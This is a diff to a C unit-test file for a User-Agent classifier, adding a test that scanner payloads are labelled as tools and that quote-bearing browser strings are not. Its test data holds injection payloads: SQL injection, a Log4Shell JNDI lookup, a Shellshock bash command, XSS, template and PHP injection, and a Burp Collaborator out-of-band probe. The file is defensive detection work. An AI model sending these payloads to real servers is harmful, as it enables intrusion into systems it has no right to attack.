@@ -389,6 +389,49 @@ generic_bots_and_their_tokens(void **state)
                      .kind, RA_UA_GENERIC);
 }
 
+/* A scanner's payload in the User-Agent is a tool's, whatever else the
+ * User-Agent claims; so is an encoded blob, and a phrase that names no
+ * product, version or platform. */
+static void
+payloads_are_tools(void **state)
+{
+    static const char  *ua[] = {
+        /* the looked-at halves' misses of isbot's and Matomo's fixtures */
+        "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML,"
+        " like Gecko) Chrome/75.0.3770.142 Safari/537.36'+(select load_file("
+        "'x97b.burpcollaborator.net'))+'",
+        "Mozilliqa\"<?=print(9347655345-4954366);?>\"",
+        "U2FsdGVkX1+uKxeH2946/bMTDvtm/Fr0nWjvFR/oPtc64LSh1Gg0qkbJUIhLpSw5h/"
+        "mjF86TFOXrl4U2SG1KBi4BC0EfphyIzeOxVXkpBWHDMfJnkrFGrubrRGjmJN",
+        "Hello, world",
+        /* the usual forms */
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML,"
+        " like Gecko) Chrome/124.0.0.0 Safari/537.36${jndi:ldap://x/a}",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML,"
+        " like Gecko) Chrome/124.0.0.0 Safari/537.36<script>alert(1)"
+        "</script>",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML,"
+        " like Gecko) Chrome/124.0.0.0 Safari/537.36' or 1=1--",
+        "LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--",
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like "
+        "Gecko) Chrome/90.0 Safari/537.36 #{7*7}",
+        "Mozilla/5.0 (Linux; Android 10) AppleWebKit/537.36 (KHTML, like "
+        "Gecko) Chrome/90.0 Mobile Safari/537.36\" or \"1\"=\"1",
+        "() { :; }; /bin/bash -c \"id\"",
+        "Mozilla/5.0 (Windows NT 10.0) {{7*7}} Gecko/20100101 Firefox/125.0",
+    };
+    size_t  i;
+
+    (void) state;
+    for (i = 0; i < sizeof(ua) / sizeof(ua[0]); i++) {
+        if (identify(ua[i]).kind != RA_UA_GENERIC) {
+            print_message("not taken for a tool: %s\n", ua[i]);
+            fail();
+        }
+    }
+    assert_true(token_is("Hello, world", "Hello"));
+}
+
 /* Operators' special-purpose and user-triggered fetchers, link expanders
  * and mail image proxies (each from its operator's documentation). */
 static void
@@ -459,6 +502,23 @@ browsers_are_not_bots(void **state)
         "20101029 Firefox/3.5.15 Lunascape/6.3.4.23051 ( .NET CLR 3.5.30729)",
         "Mozilla/5.0 (compatible; Konqueror/3.2; Linux) (KHTML, like Gecko)",
         "",
+        /* quotes, '<' and '{' that are no payload: a screen size in inches,
+         * a placeholder left in a build, the Facebook app's settings */
+        "Mozilla/5.0 (Linux; Android 5.1; Bush Spira B1 10.1\") AppleWebKit/"
+        "537.36 (KHTML, like Gecko) Chrome/74.0.3729.157 Safari/537.36",
+        "Mozilla/5.0 (Linux;Android 6.0.1;605HW Build/<buildID>)AppleWebKit/"
+        "53 7.36(KHTML,like Gecko)Chrome/55.0.2883.91 Safari/537.36",
+        "[FBAN/FB4A;FBAV/567.1.0.52.74;FBBV/1003893689;FBDM/{density=3.0,"
+        "width=1080,height=2340};FBLC/nl_NL;FBCR/NL KPN;FBMF/samsung;]",
+        /* apps: an Electron app and an iOS app's networking library are
+         * a person's (isbot's browser fixtures); counting them would make
+         * a site's own app users generic bots (README, "Crawlers") */
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML"
+        ", like Gecko) Slack/4.4.2 Chrome/78.0.3904.130 Electron/7.2.1 "
+        "Safari/537.36",
+        "Viber/12.8.0.1 CFNetwork/1121.2.2 Darwin/19.3.0",
+        /* words naming a platform are no phrase */
+        "Procast (iOS)",
     };
     size_t  i;
 
@@ -625,8 +685,10 @@ recall_on_crawler_user_agents(void **state)
  * ai.robots.txt lists too; we identify it.  Its "Glitches" section holds
  * two scanners: Assetnote, which appends "Assetnote/1.0.0" to Chrome's
  * User-Agent (isbot's crawler fixtures list it too), and "Mozilla/5.0
- * (Laravel Reaver .env Presence)", a probe for leaked .env files: tools,
- * found.
+ * (Laravel Reaver .env Presence)", a probe for leaked .env files, and
+ * two injection probes ("LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--",
+ * "Mozilliqa\"<?=print(...);?>\""), which isbot lists there because bot
+ * lists name them: no person's browser sends them: tools, found.
  */
 static void
 no_false_positive_on_browsers(void **state)
@@ -663,7 +725,9 @@ no_false_positive_on_browsers(void **state)
         ua += 2;
         if (strstr(ua, "Amzn-User/") != NULL
             || strstr(ua, "Assetnote/") != NULL
-            || strstr(ua, "Laravel Reaver") != NULL)
+            || strstr(ua, "Laravel Reaver") != NULL
+            || strstr(ua, "PG_SLEEP(") != NULL
+            || strstr(ua, "\"<?=print(") != NULL)
         {
             continue;
         }
@@ -1022,6 +1086,7 @@ main(void)
         cmocka_unit_test(top50_name_and_tokens),
         cmocka_unit_test(flags_and_verification_facts),
         cmocka_unit_test(generic_bots_and_their_tokens),
+        cmocka_unit_test(payloads_are_tools),
         cmocka_unit_test(special_fetchers_are_known),
         cmocka_unit_test(browsers_are_not_bots),
         cmocka_unit_test(recall_on_crawler_user_agents),
